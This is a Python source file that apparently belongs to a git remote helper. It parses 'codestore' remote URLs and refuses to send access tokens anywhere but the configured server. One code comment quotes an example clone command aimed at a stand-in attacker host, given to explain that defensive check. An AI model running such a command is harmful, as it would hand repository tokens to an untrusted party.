"""Which repository a `codestore` remote names, and the HTTPS URL that serves it.

Used by the remote helper (git-remote-codestore) and by `codestore clone`.

Accepted forms (git hands the helper everything after `codestore::`, or the whole
`codestore://` URL):

    codestore://<org>/<repo>[+ephemeral][.git]       <repo> may contain '/'
    <org>/<repo>[+ephemeral][.git]                   from codestore::<org>/<repo>
    https://<host>[:port]/<repo>[+ephemeral].git     from codestore::https://...
    http://127.0.0.1:<port>/<repo>.git               plain http on loopback only

An org maps to the base URL of the configured org of that name (the default org, which
honours CODESTORE_BASE_URL, or an [orgs.NAME] section: `config_for`), else to
https://<org>.code.storage. Odd input is rejected, never
normalised: a URL with credentials, a query or a fragment is an error.
"""

from __future__ import annotations

from . import config
from .config import Config
from .errors import ConfigError
from .records import record
from .vocab import EPHEMERAL_SUFFIX, is_loopback, is_org, path_under, split_repo_suffix, split_url

TYPE_CHECKING = False  # typing's import is a cost on every git request
if TYPE_CHECKING:
    from collections.abc import Mapping

SCHEME = "codestore://"
USAGE = "use codestore://<org>/<repo> (or codestore::https://<host>/<repo>.git)"


class Remote(record("Remote", "repo suffix base_url")):
    """One repository in one namespace, and where its smart-HTTP endpoint lives.

    `suffix` is "" (the default namespace), "+ephemeral" or "+import"; the token is the
    base repository's in every case. `base_url` is scheme://host[:port][/prefix], no
    trailing slash. (collections.namedtuple: typing's import is a cost on every git
    operation.)
    """

    __slots__ = ()
    repo: str
    suffix: str
    base_url: str

    @property
    def ephemeral(self) -> bool:
        return self.suffix == EPHEMERAL_SUFFIX

    @property
    def https_url(self) -> str:
        return f"{self.base_url}/{self.repo}{self.suffix}.git"

    @property
    def namespace(self) -> str:
        return f"the {self.suffix} namespace" if self.suffix else "the default namespace"


def parse(url: str, cfg: Config) -> tuple[Remote, Config]:
    """The remote named by `url`, and the configuration to mint its tokens with.

    When no org is configured, the org in the URL becomes the configured one (the
    returned Config carries it); a different configured org is an error, since our key
    signs only for that org.
    """
    if not url or any(c.isspace() or ord(c) < 32 for c in url):
        raise ConfigError(f"{_shown(url)} is not a codestore URL; {USAGE}")
    lowered = url.lower()
    if lowered.startswith(("https://", "http://")):
        return _parse_http(url, cfg), cfg
    if lowered.startswith(SCHEME):
        url = url[len(SCHEME) :]
    elif "://" in url:
        raise ConfigError(f"{_shown(url)} is not a codestore URL; {USAGE}")
    org, sep, path = url.partition("/")
    if "@" in url:
        raise ConfigError(f"the URL carries credentials; codestore mints them when git needs them, so remove them; {USAGE}")
    if ":" in org:
        raise ConfigError(f"{url!r}: a codestore URL names an org, not a host and port; {USAGE}")
    if not sep or not path or not is_org(org):
        raise ConfigError(f"{url!r} is not a codestore URL; {USAGE}")
    if "?" in path or "#" in path:
        raise ConfigError(f"{url!r}: a codestore URL takes no query or fragment; {USAGE}")
    repo, suffix = split_repo_suffix(path)
    if cfg.org is None:
        cfg = cfg._replace(org=org)
    elif cfg.org.lower() != org.lower():
        raise ConfigError(
            f"org {org!r} is not the configured org ({cfg.org!r}), so no key can sign for it; "
            f"use codestore://{cfg.org}/{repo}, or configure that org: codestore --org {org} config set kid KID "
            f"(an [orgs.{org}] section), then codestore --org {org} key import FILE"
        )
    return Remote(repo, suffix, cfg.base_url), cfg


def config_for(url: str, env: Mapping[str, str] | None = None) -> Config:
    """The configuration of the org `url` names: by its org (codestore://ORG/...) or its
    host (codestore::https://HOST/...), among the orgs configured (see config.load)."""
    lowered = url.lower()
    if lowered.startswith(("https://", "http://")):
        parts = split_url(url)
        return config.load(env, host=(parts.scheme, parts.hostport))
    rest = url[len(SCHEME) :] if lowered.startswith(SCHEME) else url
    return config.load(env, org=rest.partition("/")[0])


def _shown(url: str) -> str:
    """The URL for an error message, unless it may hold a credential."""
    return "the URL" if "@" in url else repr(url)


def _parse_http(url: str, cfg: Config) -> Remote:
    parts = split_url(url)
    host = parts.host
    try:
        parts.port  # noqa: B018 - raises ValueError on a bad port
    except ValueError:
        raise ConfigError(f"{_shown(url)} is not a valid URL; {USAGE}") from None
    if "@" in parts.netloc:
        raise ConfigError(
            "the URL carries credentials; codestore mints them when git needs them, so remove "
            f"the user:password@ part; {USAGE}"
        )
    if parts.query or parts.fragment or "?" in url or "#" in url or not host:
        raise ConfigError(f"{_shown(url)} is not a repository URL; {USAGE}")
    if parts.scheme == "http" and not is_loopback(host):
        raise ConfigError(
            f"refusing plain http to {host}: a token would cross the network unencrypted; use https://"
        )
    origin = parts.origin
    # Tokens go only to the configured server. Without this check a URL handed to an
    # agent (`git clone codestore::https://attacker.example/team/secret.git`) would mint
    # a token for any repository and send it to any host.
    if not (cfg.base_url_setting or cfg.org):
        raise ConfigError(
            f"no Code Storage server is configured, so {origin} is not trusted with tokens; "
            f"set CODESTORE_BASE_URL={origin} (or use codestore://<org>/<repo>)"
        )
    base = split_url(cfg.base_url)
    if (base.scheme, base.netloc.lower()) != (parts.scheme, parts.netloc.lower()):
        raise ConfigError(
            f"refusing to send a token to {origin}: it is not the configured server {cfg.base_url}; "
            f"set CODESTORE_BASE_URL={origin} if you trust it"
        )
    # Under our configured base URL, its path prefix is not part of the repository id.
    path = path_under(cfg.base_url, parts.path)
    if path is None:
        raise ConfigError(f"{url!r} is not under the configured base URL {cfg.base_url}")
    if not path.strip("/"):
        raise ConfigError(f"{url!r} names no repository; {USAGE}")
    repo, suffix = split_repo_suffix(path)
    prefix = base.path.strip("/")
    return Remote(repo, suffix, f"{origin}/{prefix}" if prefix else origin)
